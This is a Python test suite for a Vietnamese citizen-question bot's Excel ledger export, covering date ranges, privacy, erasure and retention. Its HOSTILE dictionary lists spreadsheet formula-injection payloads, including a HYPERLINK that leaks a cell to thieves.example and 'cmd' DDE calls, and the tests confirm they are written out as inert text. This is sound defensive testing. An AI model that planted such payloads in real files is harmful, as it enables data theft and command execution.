"""`/xuatso` through the real bot: the file that an admin gets, opened again, and what must not be in it."""

import asyncio
import re
import zipfile
from collections.abc import Awaitable, Callable
from datetime import UTC, datetime
from io import BytesIO
from pathlib import Path
from typing import Any

import openpyxl
import pytest
import sqlalchemy as sa

from bot.lists.erasures import place_of, remove_discarded
from bot.loops.ledger_maker import HALF_MADE, LedgerMaker
from domain.questions.life import Role
from messages.documents.ledger_book import CELL_UNITS
from services.ledger import exports as ledger_exports
from services.ledger.exports import Job
from services.people.actors import actor_of
from services.privacy import erasing
from services.questions import screening
from services.staff import staff
from storage.engine.database import Database
from storage.operation import audit
from storage.people import roles
from storage.tables import assignments, entries, people, questions
from storage.tables import ledger_exports as exports_table
from tests.conftest import SetClock
from tests.worlds.chat import Chat, House, Shown
from tests.worlds.offices import LAND, Offices, hire

DENUNCIATION = "Tôi tố cáo ông chủ tịch xã nhận hối lộ 50 triệu đồng của dân làm sổ đỏ."
HOSTILE = {
    "formula": '=HYPERLINK("http://thieves.example/?x="&A1,"Xem")',
    "command": "+cmd|' /C calc'!A0",
    "sum": "@SUM(1+1)*cmd|' /C calc'!A0",
    "minus": "-2+3+cmd|' /C calc'!A0",
    "tab": "\t=1+1",
    "carriage return": "\r=1+1",
    "zero": "=1\x00+\x1b1",
    "surrogate": "=1+1\ud83d",
    "escaped": "_x003D_1+1",
    "backwards": "\u202e=1+1\u200f",
    "link": "https://thieves.example/x",
    "number": "0909778891",
    "markup": "]]></t><f>1+1</f>",
}


@pytest.fixture
async def offices(database: Database, application: Any) -> Offices:
    return await Offices.open(House(database, application))


@pytest.fixture
async def admin(offices: Offices) -> Chat:
    return await hire(offices.house, "Quản", Role.ADMIN)


class Exports:
    """The maker beside the bot, and the folder of kept files."""

    def __init__(self, house: House, folder: Path) -> None:
        self.house, self.folder = house, folder
        self.maker = LedgerMaker(house.database, folder, asyncio.Event())

    async def made(self) -> None:
        await self.maker.make_all()
        await self.house.deliver()

    def content(self, shown: Shown) -> bytes:
        return place_of(self.folder, shown.checksum).read_bytes()

    async def table(self, admin: Chat, typed: str = "/xuatso tất cả") -> list[dict[str, Any]]:
        """Ask for a ledger, and read it: a row by heading for each question."""
        await admin.send(typed)
        await self.made()
        await self.maker.tidy()
        return rows_of(self.content(admin.last))


def rows_of(content: bytes) -> list[dict[str, Any]]:
    sheet = openpyxl.load_workbook(BytesIO(content)).worksheets[0]
    heads, *rows = sheet.iter_rows(values_only=True)
    return [dict(zip(map(str, heads), row, strict=True)) for row in rows]


def unzipped(content: bytes) -> str:
    with zipfile.ZipFile(BytesIO(content)) as parts:
        return "\n".join(parts.read(name).decode() for name in parts.namelist())


@pytest.fixture
def exports(offices: Offices, tmp_path: Path) -> Exports:
    return Exports(offices.house, tmp_path)


async def receive(database: Database, code: str, **values: Any) -> None:
    """A question of the ledger as it might have come."""
    async with database.work() as work:
        await work.run(sa.update(questions).where(questions.c.number == int(code[-6:])).values(**values))


async def test_an_admin_gets_the_ledger_as_a_spreadsheet(
    offices: Offices, admin: Chat, exports: Exports, clock: SetClock
) -> None:
    code = await offices.answered()
    await admin.send("/xuatso")
    assert admin.last.labels == ["Tháng này", "Tháng trước", "Quý này", "Năm nay", "Tất cả"]
    await admin.press("Tháng này")
    assert "từ Chủ nhật, ngày 01/11/2026 đến hết thứ Hai, ngày 02/11/2026: 1 câu hỏi" in admin.last.text
    await exports.made()
    assert admin.last.name == "so-cau-hoi_2026-11-01_2026-11-02.xlsx"
    assert "thông tin cá nhân" in admin.last.text
    (row,) = rows_of(exports.content(admin.last))
    assert row["Mã câu hỏi"] == code
    assert row["Tiếp nhận lúc"] == datetime(2026, 11, 2, 9, 0)  # noqa: DTZ001  # as a spreadsheet has it
    assert row["Hạn trả lời"] == datetime(2026, 11, 16, 17, 0)  # noqa: DTZ001
    assert row["Trạng thái"] == "Đã trả lời"
    assert row["Cơ quan chủ trì"] == "Sở Nông nghiệp và Môi trường"
    assert row["Nội dung câu hỏi"] == LAND
    assert (row["Người hỏi"], row["Địa chỉ"]) == ("Nguyễn Thị Mai", "12 Lê Lợi, phường Rạch Giá")
    assert row["Quá hạn (ngày làm việc)"] is None


async def test_headings_stay_in_sight_and_can_be_filtered(
    offices: Offices, admin: Chat, exports: Exports
) -> None:
    await offices.ask()
    await admin.send("/xuatso quý này")
    await exports.made()
    book = openpyxl.load_workbook(BytesIO(exports.content(admin.last)))
    sheet, about = book.worksheets
    assert (sheet.freeze_panes, sheet.auto_filter.ref) == ("B2", "A1:Y2")
    facts = {row[0]: row[1] for row in about.iter_rows(values_only=True)}
    assert facts["Tiếp nhận từ"] == "thứ Năm, ngày 01/10/2026"
    assert facts["Lập lúc"] == "09:00, thứ Hai, ngày 02/11/2026"
    assert facts["Người xuất"] == "Quản"


async def test_what_people_wrote_is_never_a_formula(
    offices: Offices, admin: Chat, exports: Exports, database: Database
) -> None:
    for text in HOSTILE.values():
        await offices.ask(f"{text} đường hỏng quá")
    async with database.work() as work:  # whatever else may come to stand there
        await work.run(
            sa.update(people)
            .where(people.c.full_name.is_not(None))
            .values(full_name=HOSTILE["formula"], home_address=HOSTILE["sum"], contact=HOSTILE["minus"])
        )
        await work.run(sa.update(questions).values(organisation=HOSTILE["command"]))
        rows = await work.all(sa.select(entries.c.id).where(entries.c.kind == "question").order_by("id"))
        for row, text in zip(rows, HOSTILE.values(), strict=True):
            stored = text.replace("\x00", "").replace("\ud83d", "")  # what no database stores
            await work.run(sa.update(entries).where(entries.c.id == row.id).values(text=stored))
    await admin.send("/xuatso tất cả")
    await exports.made()
    content = exports.content(admin.last)
    assert re.search(r"<(f|hyperlink|externalLink|oleObject)\b", unzipped(content)) is None
    sheet = openpyxl.load_workbook(BytesIO(content)).worksheets[0]
    texts = []
    for row in sheet.iter_rows(min_row=2):
        for cell in row:
            assert cell.data_type in ("s", "n", "d")
            if cell.data_type == "s":
                assert (cell.number_format, cell.quotePrefix) == ("@", True)  # text, also once it is edited
        assert [cell.value for cell in row[20:24]] == [
            HOSTILE["formula"],
            HOSTILE["command"],
            HOSTILE["sum"],
            HOSTILE["minus"],
        ]
        texts.append(row[24].value)
    assert texts[:4] == [HOSTILE[key] for key in ("formula", "command", "sum", "minus")]
    assert texts[4:6] == ["\t=1+1", "\n=1+1"]
    assert texts[6:9] == ["=1+1", "=1+1", "_x005F_x003D_1+1"]  # Excel reads the last as it was written
    assert texts[9:] == [HOSTILE[key] for key in ("backwards", "link", "number", "markup")]


async def test_a_text_longer_than_a_cell_is_cut_where_it_can_be_seen(
    offices: Offices, admin: Chat, exports: Exports, database: Database
) -> None:
    await offices.ask()
    async with database.work() as work:
        await work.run(sa.update(entries).values(text="Đường hỏng 😀 " * 5000))
    (row,) = await exports.table(admin)
    text = row["Nội dung câu hỏi"]
    assert text.endswith("…")
    assert CELL_UNITS - 2 <= len(text.encode("utf-16-le")) // 2 <= CELL_UNITS


async def test_of_a_denunciation_neither_words_nor_asker_are_in_the_file(
    offices: Offices, admin: Chat, exports: Exports
) -> None:
    hidden = await offices.ask(DENUNCIATION)
    content = await _content(exports, admin)
    (row,) = rows_of(content)
    assert row["Mã câu hỏi"] == hidden
    assert [row[head] for head in ("Người hỏi", "Tổ chức", "Địa chỉ", "Liên hệ", "Nội dung câu hỏi")] == [
        None
    ] * 5
    for secret in ("hối lộ", "chủ tịch", "Nguyễn Thị Mai", "Lê Lợi"):
        assert secret not in unzipped(content)


async def test_so_it_is_once_an_editor_has_confirmed_it_and_when_an_editor_exports(
    offices: Offices, exports: Exports
) -> None:
    code = await offices.ask(DENUNCIATION)
    await offices.editor.send(f"/tuchoi {code} to-cao")
    await offices.editor.press("Xác nhận")
    async with offices.house.database.work() as work:  # an editor who is an admin, too
        invitation, _ = await staff.invite(work, Role.ADMIN, None)
    await offices.editor.send(f"/start {invitation}")
    await offices.editor.press("Xác nhận")
    content = await _content(exports, offices.editor)
    assert rows_of(content)[0]["Trạng thái"] == "Không tiếp nhận"
    assert "hối lộ" not in unzipped(content)
    assert "Nguyễn Thị Mai" not in unzipped(content)


async def _content(exports: Exports, admin: Chat) -> bytes:
    await admin.send("/xuatso tất cả")
    await exports.made()
    return exports.content(admin.last)


async def test_a_period_has_both_its_days_in_programme_time(
    offices: Offices, admin: Chat, exports: Exports, database: Database
) -> None:
    codes = [await offices.ask(f"Đường số {n} hỏng, bao giờ sửa?") for n in range(4)]
    moments = (
        datetime(2026, 9, 30, 16, 59, 59, tzinfo=UTC),  # 23:59:59 on 30/9
        datetime(2026, 9, 30, 17, 0, tzinfo=UTC),  # midnight: 1/10
        datetime(2026, 10, 31, 16, 59, 59, tzinfo=UTC),  # the last second of 31/10
        datetime(2026, 10, 31, 17, 0, tzinfo=UTC),  # 1/11
    )
    for code, moment in zip(codes, moments, strict=True):
        await receive(database, code, received_at=moment)

    async def got(typed: str) -> list[str]:
        return [row["Mã câu hỏi"] for row in await exports.table(admin, f"/xuatso {typed}")]

    assert await got("1/10/2026 31/10/2026") == codes[1:3]
    assert await got("từ 2026-09-30 đến 2026-10-01") == codes[:2]
    assert await got("31.10.2026 - 1-11-2026") == codes[2:]
    assert await got("tháng trước") == codes[1:3]
    assert await got("tháng này") == codes[3:]
    assert await got("quý này") == codes[1:]
    assert await got("năm nay") == codes
    assert await got("tất cả") == codes
    assert admin.last.name == "so-cau-hoi_2026-09-30_2026-11-02.xlsx"


REFUSED = {
    "hôm qua": "Không hiểu khoảng thời gian “hôm qua”",
    "1/10/2026": "Không hiểu khoảng thời gian",
    "1/1/0001 31/12/9999": "Không hiểu khoảng thời gian",
    "<b>1</b> 'x'": "Không hiểu khoảng thời gian",
    "31/10/2026 1/10/2026": "Ngày cuối (thứ Năm, ngày 01/10/2026) đến trước ngày đầu",
    "1/1/2025 31/12/2025": "Không có câu hỏi nào được tiếp nhận từ thứ Tư, ngày 01/01/2025",
}


async def test_a_period_that_is_none_or_has_nothing_is_refused_with_a_sentence(
    offices: Offices, admin: Chat, database: Database
) -> None:
    await offices.ask()
    for typed, said in REFUSED.items():
        await admin.send(f"/xuatso {typed}")
        assert said in admin.last.text
    async with database.reading() as work:
        assert await work.all(sa.select(exports_table)) == []


async def test_where_nobody_has_asked_anything_there_is_nothing_to_export(
    offices: Offices, admin: Chat
) -> None:
    await admin.send("/xuatso tất cả")
    assert "Không có câu hỏi nào" in admin.last.text


async def test_two_admins_at_once_get_a_file_each_and_a_second_tap_none(
    offices: Offices, admin: Chat, exports: Exports
) -> None:
    await offices.ask()
    other = await hire(offices.house, "Trị", Role.ADMIN)
    for chat in (admin, other):
        await chat.send("/xuatso")
        await chat.press("Năm nay", times=2)
        assert len(chat.saying("Đang lập sổ câu hỏi")) == 1
    await exports.made()
    (first,), (second,) = ([one for one in chat.shown if one.name] for chat in (admin, other))
    assert first.name == second.name == "so-cau-hoi_2026-01-01_2026-11-02.xlsx"
    assert first.checksum != second.checksum  # the one may go while the other is still on its way
    assert rows_of(exports.content(first)) == rows_of(exports.content(second))
    assert len([one for one in admin.shown if one.name]) == 1


async def test_who_is_no_admin_any_more_gets_nothing(
    offices: Offices, admin: Chat, exports: Exports, database: Database
) -> None:
    await offices.ask()
    await admin.send("/xuatso tất cả")
    async with database.work() as work:
        (held,) = await roles.of_person(work, (await admin.row()).id)
        await roles.revoke(work, held.id, None)
    await exports.made()
    assert [one for one in admin.shown if one.name] == []
    await remove_discarded(database, exports.folder, older_than=0)
    assert _files(exports.folder) == []


def _files(folder: Path) -> list[Path]:
    return [path for path in folder.rglob("*") if path.is_file()]


async def test_the_audit_log_says_who_took_which_period(
    offices: Offices, admin: Chat, exports: Exports, database: Database
) -> None:
    await offices.ask()
    await exports.table(admin, "/xuatso 1/11/2026 2/11/2026")
    await admin.send("/nhatky")
    assert "Quản: xuất sổ theo dõi - 2026-11-01..2026-11-02" in admin.last.text
    async with database.reading() as work:
        (entry,) = [row for row in await audit.listed(work, 5) if row.act == "ledger_exported"]
        assert entry.details == {"questions": 1}
        assert await audit.first_broken(work) is None


async def test_a_file_is_kept_no_longer_than_until_it_is_delivered(
    offices: Offices, admin: Chat, exports: Exports, database: Database, clock: SetClock
) -> None:
    await offices.ask()
    await admin.send("/xuatso tất cả")
    await exports.maker.make_all()
    await exports.maker.tidy()
    (kept,) = _files(exports.folder)  # not delivered yet
    assert kept.stat().st_mode & 0o077 == 0
    await remove_discarded(database, exports.folder, older_than=0)
    assert _files(exports.folder) == [kept]
    await offices.house.deliver()
    await exports.maker.tidy()
    await remove_discarded(database, exports.folder, older_than=0)
    assert _files(exports.folder) == []
    clock.move(days=4)
    await exports.maker.tidy()
    async with database.reading() as work:
        assert await work.all(sa.select(exports_table)) == []


async def test_what_cannot_be_delivered_for_a_day_is_given_up_and_said(
    offices: Offices, admin: Chat, exports: Exports, database: Database, clock: SetClock
) -> None:
    await offices.ask()
    await admin.send("/xuatso tất cả")
    await exports.maker.make_all()
    clock.move(hours=25)
    await exports.maker.tidy()
    await offices.house.deliver()
    assert "Tệp đã lập nhưng không gửi được" in admin.last.text
    assert [one for one in admin.shown if one.name] == []
    await remove_discarded(database, exports.folder, older_than=0)
    assert _files(exports.folder) == []


async def test_too_large_a_file_is_not_sent_and_a_shorter_period_proposed(
    offices: Offices, admin: Chat, exports: Exports
) -> None:
    await offices.ask()
    exports.maker = LedgerMaker(offices.house.database, exports.folder, asyncio.Event(), limit=5_000)
    await admin.send("/xuatso tất cả")
    await exports.made()
    assert "Xin chọn khoảng thời gian ngắn hơn" in admin.last.text
    assert _files(exports.folder) == []
    await admin.send("/xuatso tất cả")
    assert "Đang lập sổ" in admin.last.text


async def test_more_questions_than_a_spreadsheet_has_rows_are_refused_at_once(
    offices: Offices, admin: Chat, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(ledger_exports, "MAX_QUESTIONS", 1)
    await offices.ask()
    await offices.ask("Cầu gãy, bao giờ sửa?")
    await admin.send("/xuatso tất cả")
    assert "có nhiều hơn 1 câu hỏi, quá số dòng" in admin.last.text


async def test_a_full_disk_is_tried_again_and_told_in_the_end(
    offices: Offices, admin: Chat, exports: Exports, monkeypatch: pytest.MonkeyPatch
) -> None:
    def full(*_: Any) -> str:
        raise OSError(28, "No space left on device")

    await offices.ask()
    await admin.send("/xuatso tất cả")
    monkeypatch.setattr("bot.loops.ledger_maker._keep", full)
    for _ in range(2):
        await exports.made()
        assert "Đang lập sổ" in admin.last.text
    await exports.made()
    assert "Không lập được tệp" in admin.last.text
    assert _files(exports.folder) == []


async def test_pages_leave_nothing_out_and_nothing_doubled(
    offices: Offices, admin: Chat, exports: Exports, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Received at the same moment, as many are: the clock stands still here."""
    codes = [await offices.ask(f"Đường số {n} hỏng, bao giờ sửa?") for n in range(7)]
    for size in (1, 2, 3, 7):
        monkeypatch.setattr(ledger_exports, "PAGE", size)
        found = [row["Mã câu hỏi"] for row in await exports.table(admin)]
        assert found == codes


async def _flag(offices: Offices) -> None:
    """The officer suspects the one question of the ledger; nothing is delivered meanwhile."""
    async with offices.house.database.work() as work:
        officer = await actor_of(work, await offices.officer.row())
        (question,) = await work.all(sa.select(questions))
        await screening.flag(work, officer, question.id)


class Interrupted(LedgerMaker):
    """Something happens when the file is written, before it is queued."""

    def __init__(self, exports: Exports, meanwhile: Callable[[], Awaitable[None]]) -> None:
        super().__init__(exports.house.database, exports.folder, asyncio.Event())
        self.meanwhile: Callable[[], Awaitable[None]] | None = meanwhile

    async def _write(self, job: Job, file: Path, stop: asyncio.Event) -> int:
        written = await super()._write(job, file, stop)
        if self.meanwhile is not None:
            meanwhile, self.meanwhile = self.meanwhile, None
            await meanwhile()
        return written


async def test_a_question_flagged_while_the_file_is_made_is_not_in_it(
    offices: Offices, admin: Chat, exports: Exports
) -> None:
    await offices.assigned()
    await admin.send("/xuatso tất cả")
    exports.maker = Interrupted(exports, lambda: _flag(offices))
    await exports.made()
    (sent,) = [one for one in admin.shown if one.name]
    assert LAND not in unzipped(exports.content(sent))
    await remove_discarded(offices.house.database, exports.folder, older_than=0)
    assert len(_files(exports.folder)) == 1  # what was made before is gone


async def test_a_question_flagged_before_the_file_is_sent_has_it_made_anew(
    offices: Offices, admin: Chat, exports: Exports
) -> None:
    await offices.assigned()
    await admin.send("/xuatso tất cả")
    await exports.maker.make_all()
    await _flag(offices)
    await exports.made()
    (sent,) = [one for one in admin.shown if one.name]
    assert LAND not in unzipped(exports.content(sent))
    assert admin.saying("đã được thu hồi") == []  # they have seen nothing


async def test_a_file_that_was_sent_is_taken_back_when_a_question_in_it_is_flagged(
    offices: Offices, admin: Chat, exports: Exports, clock: SetClock
) -> None:
    code = await offices.assigned()
    await exports.table(admin, "/xuatso 1/11/2026 2/11/2026")
    await exports.table(admin, "/xuatso 2/11/2026 2/11/2026")
    clock.move(hours=2)
    await offices.officer.send(f"/xem {code}")
    await offices.officer.press("Nghi tố cáo")
    assert [one for one in admin.shown if one.name] == []
    assert len(admin.saying("đã được thu hồi")) == 2


async def test_a_file_of_other_days_stays_where_it_is(
    offices: Offices, admin: Chat, exports: Exports, database: Database
) -> None:
    code = await offices.assigned()
    other = await offices.ask("Cầu gãy, bao giờ sửa?")
    await receive(database, other, received_at=datetime(2026, 10, 5, 2, tzinfo=UTC))
    await exports.table(admin, "/xuatso tháng trước")
    await offices.officer.send(f"/xem {code}")
    await offices.officer.press("Nghi tố cáo")
    assert [one.name for one in admin.shown if one.name] == ["so-cau-hoi_2026-10-01_2026-10-31.xlsx"]
    assert admin.saying("đã được thu hồi") == []


async def test_who_erases_their_data_is_in_no_file_any_more(
    offices: Offices, admin: Chat, exports: Exports, database: Database
) -> None:
    await offices.ask()
    await exports.table(admin, "/xuatso tất cả")  # delivered
    await admin.send("/xuatso tháng này")
    await exports.maker.make_all()  # on its way
    async with database.work() as work:
        await erasing.erase_oneself(work, await actor_of(work, await offices.citizen.row()), 10**9)
    await exports.made()
    (sent,) = [one for one in admin.shown if one.name]
    assert sent.name == "so-cau-hoi_2026-11-01_2026-11-02.xlsx"
    await remove_discarded(database, exports.folder, older_than=0)
    (kept,) = _files(exports.folder)
    found = unzipped(kept.read_bytes())
    for mark in ("Nguyễn Thị Mai", "Lê Lợi", LAND):
        assert mark not in found


async def test_a_late_question_says_how_late_and_in_whose_hands(
    offices: Offices, admin: Chat, exports: Exports, clock: SetClock
) -> None:
    code = await offices.assigned()
    await offices.officer.send(f"/giahan {code} 2 Chờ đo đạc")
    await offices.editor.send(f"/giahan {code} đồng ý")
    clock.move(days=21)  # 23/11, due 18/11: 19, 20 and 23/11 are worked
    (row,) = await exports.table(admin)
    assert row["Hạn trả lời"] == datetime(2026, 11, 18, 17, 0)  # noqa: DTZ001
    assert (row["Quá hạn (ngày làm việc)"], row["Trễ ở"]) == (3, "trễ ở cơ quan")
    assert row["Gia hạn (ngày làm việc)"] == 2


async def test_an_agency_has_the_name_that_was_valid_then(
    offices: Offices, admin: Chat, exports: Exports, database: Database
) -> None:
    await offices.assigned()
    async with database.work() as work:
        await work.run(sa.update(assignments).values(agency_name="Sở Tài nguyên và Môi trường"))
    (row,) = await exports.table(admin)
    assert row["Cơ quan chủ trì"] == "Sở Tài nguyên và Môi trường"


async def test_in_english_for_who_reads_english(offices: Offices, admin: Chat, exports: Exports) -> None:
    await offices.ask()
    await admin.send("/ngonngu")
    await admin.press("English")
    await admin.send("/xuatso")
    await admin.press("This year")
    await exports.made()
    assert admin.last.name == "ledger_2026-01-01_2026-11-02.xlsx"
    (row,) = rows_of(exports.content(admin.last))
    assert row["Status"] == "Received"


async def test_a_crash_on_the_way_loses_nothing(
    offices: Offices, admin: Chat, exports: Exports, database: Database
) -> None:
    await offices.ask()
    await admin.send("/xuatso tất cả")
    left = exports.folder / HALF_MADE / "before" / "ledger.xlsx"
    left.parent.mkdir(parents=True)
    left.write_bytes(b"half of it")
    stop = asyncio.Event()
    again = LedgerMaker(database, exports.folder, queued := asyncio.Event())
    running = asyncio.create_task(again.run(stop))
    await queued.wait()
    stop.set()
    await running
    assert not left.exists()
    await offices.house.deliver()
    assert admin.last.name.endswith(".xlsx")
